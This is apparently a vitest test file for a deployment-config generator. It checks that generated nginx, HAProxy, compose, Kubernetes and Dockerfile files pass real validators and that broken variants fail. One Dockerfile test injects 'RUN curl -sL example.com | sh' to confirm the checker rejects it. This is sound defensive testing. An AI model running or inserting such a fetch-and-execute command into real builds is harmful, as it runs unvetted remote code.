import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkGenerated } from '../../src/gen/check.js';
import { checkDockerfile } from '../../src/gen/check-dockerfile.js';
import { validateComposeFile } from '../../src/gen/check-compose.js';
import { validateK8sManifest } from '../../src/gen/check-k8s.js';
import { checkHaproxyConfig, checkNginxConfig } from '../../src/gen/check-proxy.js';
import { renderTarget } from '../../src/gen/render.js';
import type { GeneratedFile } from '../../src/gen/types.js';
import { genCases, REPO_ROOT } from '../helpers/lb-gen-cases.js';

/**
 * Every generated file passes the real tools (nginx -t, haproxy -c), the
 * compose and Kubernetes schemas and the Dockerfile dry run; a deliberately
 * broken copy of each fails.
 */
let tlsDir: string;
let cert: string;
let key: string;

beforeAll(() => {
  tlsDir = fs.mkdtempSync(path.join(os.tmpdir(), 'mcp-scale-gen-tls-'));
  cert = path.join(tlsDir, 'server.pem');
  // HAProxy finds the key as <cert>.key; nginx is given it explicitly.
  key = `${cert}.key`;
  execFileSync('openssl', [
    'req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes',
    '-keyout', key, '-out', cert, '-days', '2', '-subj', '/CN=localhost',
  ], { stdio: 'ignore' }); // prettier-ignore
});

afterAll(() => {
  fs.rmSync(tlsDir, { recursive: true, force: true });
});

function find(files: GeneratedFile[], filePath: string): GeneratedFile {
  const file = files.find((f) => f.path === filePath);
  if (!file) throw new Error(`no ${filePath} in ${files.map((f) => f.path).join(', ')}`);
  return file;
}

describe('checkGenerated on every golden case', () => {
  for (const { name, target, options } of genCases()) {
    it(`${name}: every file passes`, async () => {
      // Real certificate files, since nginx -t and haproxy -c load them.
      const files = renderTarget(target, options.tls ? { ...options, tls: { cert, key } } : options);
      const results = await checkGenerated(files, { contextDir: REPO_ROOT });
      const checkable = files.filter((f) => f.kind !== 'readme' && f.kind !== 'dockerignore');
      expect([...new Set(results.map((r) => r.path))].sort()).toEqual(checkable.map((f) => f.path).sort());
      // Every pod template is also held to the restricted Pod Security profile.
      const withPods = files.filter(
        (f) => f.kind === 'k8s' && /^kind: (Deployment|StatefulSet)$/m.test(f.content),
      );
      if (files.some((f) => f.kind === 'k8s')) expect(withPods.length).toBeGreaterThan(0);
      for (const file of withPods) {
        expect(results.some((r) => r.path === file.path && r.check === 'pod security (restricted)')).toBe(
          true,
        );
      }
      for (const result of results) {
        expect(result.status, `${result.path}: ${result.check}: ${result.detail}`).toBe('passed');
      }
    });
  }
});

describe('deliberately broken files fail', () => {
  const [defaults] = genCases();
  if (!defaults) throw new Error('no cases');
  const files = renderTarget('all', defaults.options);

  it('nginx -t rejects an unknown directive and a missing semicolon', async () => {
    const good = find(files, 'nginx.conf').content;
    const unknown = await checkNginxConfig(good.replace('proxy_buffering off;', 'proxy_bufering off;'));
    expect(unknown.status).toBe('failed');
    expect(unknown.detail).toContain('proxy_bufering');
    const syntax = await checkNginxConfig(good.replace('proxy_cache off;', 'proxy_cache off'));
    expect(syntax.status).toBe('failed');
  });

  it('nginx -t checks compose service names as 127.0.0.1 and says so', async () => {
    const result = await checkNginxConfig(find(files, 'nginx.conf').content);
    expect(result.status).toBe('passed');
    expect(result.detail).toContain('gateway-1');
  });

  it('haproxy -c rejects an unknown option and a server without an address', async () => {
    const good = find(files, 'haproxy.cfg').content;
    const unknown = await checkHaproxyConfig(
      good.replace('    option http-no-delay\n', '    option http-no-delai\n'),
    );
    expect(unknown.status).toBe('failed');
    expect(unknown.detail).toContain('http-no-delai');
    const broken = await checkHaproxyConfig(good.replace(/server g1 \S+/, 'server g1'));
    expect(broken.status).toBe('failed');
  });

  it('the compose schema rejects a wrong key, a wrong type and a dangling depends_on', async () => {
    const good = find(files, 'compose.yaml').content;
    expect(await validateComposeFile(good)).toEqual([]);
    const wrongKey = await validateComposeFile(good.replace('    env_file: .env', '    env_files: .env'));
    expect(wrongKey.join(' ')).toContain('must NOT have additional properties');
    const wrongType = await validateComposeFile(good.replace('      retries: 10', '      retries: ten'));
    expect(wrongType.join(' ')).toContain('retries');
    const dangling = await validateComposeFile(
      good.replace('      gateway-1:\n        condition', '      gateway-9:\n        condition'),
    );
    expect(dangling.join(' ')).toContain("no service 'gateway-9'");
  });

  it('the Kubernetes schemas reject a wrong key, a wrong type and an unknown kind', async () => {
    const gateways = find(files, 'k8s/gateways.yaml').content;
    expect(await validateK8sManifest(gateways)).toEqual([]);
    const wrongKey = await validateK8sManifest(gateways.replace('  replicas: 2', '  replicaz: 2'));
    expect(wrongKey).toEqual([expect.stringContaining('unknown key /spec/replicaz')]);
    const nested = await validateK8sManifest(gateways.replace('periodSeconds: 5', 'periodSecond: 5'));
    expect(nested.join(' ')).toContain('readinessProbe/periodSecond');
    const wrongType = await validateK8sManifest(gateways.replace('  replicas: 2', '  replicas: one'));
    expect(wrongType.join(' ')).toContain('/spec/replicas');
    const hpa = find(files, 'k8s/hpa.yaml').content;
    const unknownKind = await validateK8sManifest(
      hpa.replace('apiVersion: autoscaling/v2', 'apiVersion: autoscaling/v9'),
    );
    expect(unknownKind.join(' ')).toContain('no schema for apiVersion autoscaling/v9');
  });

  it('the restricted Pod Security check fails a pod that may escalate privileges or run as root', async () => {
    const gateways = find(files, 'k8s/gateways.yaml');
    const broken = gateways.content
      .replace('allowPrivilegeEscalation: false', 'allowPrivilegeEscalation: true')
      .replace('runAsUser: 1000', 'runAsUser: 0');
    const results = await checkGenerated([{ ...gateways, content: broken }], { contextDir: REPO_ROOT });
    const podSecurity = results.find((r) => r.check === 'pod security (restricted)');
    expect(podSecurity?.status).toBe('failed');
    expect(podSecurity?.detail).toContain('privilege-escalation');
    expect(podSecurity?.detail).toContain('run-as-user');
    // The schema alone would have passed it.
    expect(results.find((r) => r.check === 'k8s schema')?.status).toBe('passed');
  });

  it('the env check wants a cluster secret of 32 bytes or more', async () => {
    const env: GeneratedFile = { path: '.env', kind: 'env', content: 'MCP_SCALE_CLUSTER_SECRET=short\n' };
    const [result] = await checkGenerated([env], { contextDir: REPO_ROOT });
    expect(result?.status).toBe('failed');
  });
});

describe('Dockerfile dry run', () => {
  const [defaults] = genCases();
  if (!defaults) throw new Error('no cases');
  const files = renderTarget('docker', defaults.options);
  const dockerfile = find(files, 'Dockerfile').content;
  const ignore = find(files, 'Dockerfile.dockerignore').content;

  it('passes for the repository: every COPY source exists, every command is the package’s own', () => {
    expect(checkDockerfile(dockerfile, ignore, REPO_ROOT)).toEqual([]);
  });

  it('fails on a missing file, a foreign command, an ignored path, a root user and another base image', () => {
    const check = (text: string) => checkDockerfile(text, ignore, REPO_ROOT).join('\n');
    expect(check(dockerfile.replace('COPY bin ./bin', 'COPY binaries ./bin'))).toContain(
      'binaries does not exist',
    );
    expect(check(dockerfile.replace('RUN npm run build', 'RUN curl -sL example.com | sh'))).toContain(
      "is not one of the package's own commands",
    );
    expect(check(dockerfile.replace('RUN npm run build', 'RUN npm run no-such-script'))).toContain(
      'no-such-script',
    );
    expect(check(dockerfile.replace('COPY bin ./bin', 'COPY node_modules ./node_modules'))).toContain(
      'excluded by the .dockerignore',
    );
    expect(check(dockerfile.replace('USER node', 'USER root'))).toContain('non-root USER');
    expect(check(dockerfile.replace('FROM node:24-slim\n', 'FROM node:latest\n'))).toContain(
      'base image must be node:<tag>',
    );
    expect(check(dockerfile.replace('"bin/mcp-scale.js"', '"bin/nope.js"'))).toContain('bin/nope.js');
  });

  it('a project that depends on mcp-scale gets an install-only image that bundles its server module', async () => {
    const project = fs.mkdtempSync(path.join(os.tmpdir(), 'mcp-scale-gen-project-'));
    try {
      fs.writeFileSync(
        path.join(project, 'package.json'),
        JSON.stringify({ name: 'shop', dependencies: { 'mcp-scale': '^0.1.0' } }),
      );
      fs.writeFileSync(path.join(project, 'package-lock.json'), '{}');
      fs.mkdirSync(path.join(project, 'server'));
      fs.writeFileSync(path.join(project, 'server/index.js'), 'export default () => undefined;\n');
      const options = {
        ...defaults.options,
        contextDir: project,
        server: path.join(project, 'server/index.js'),
      };
      const rendered = renderTarget('all', { ...options, outDir: path.join(project, 'deploy') });
      const projectDockerfile = find(rendered, 'Dockerfile').content;
      expect(projectDockerfile).toContain('COPY server ./server');
      expect(projectDockerfile).toContain('ENTRYPOINT ["node", "node_modules/mcp-scale/bin/mcp-scale.js"]');
      expect(find(rendered, 'compose.yaml').content).toContain('"--server", "/app/server/index.js"');
      const results = await checkGenerated(rendered, { contextDir: project });
      expect(results.filter((r) => r.status !== 'passed')).toEqual([]);
      fs.rmSync(path.join(project, 'server'), { recursive: true });
      const [missing] = (await checkGenerated(rendered, { contextDir: project })).filter(
        (r) => r.kind === 'dockerfile',
      );
      expect(missing?.status).toBe('failed');
      expect(missing?.detail).toContain('server does not exist');
    } finally {
      fs.rmSync(project, { recursive: true, force: true });
    }
  });
});
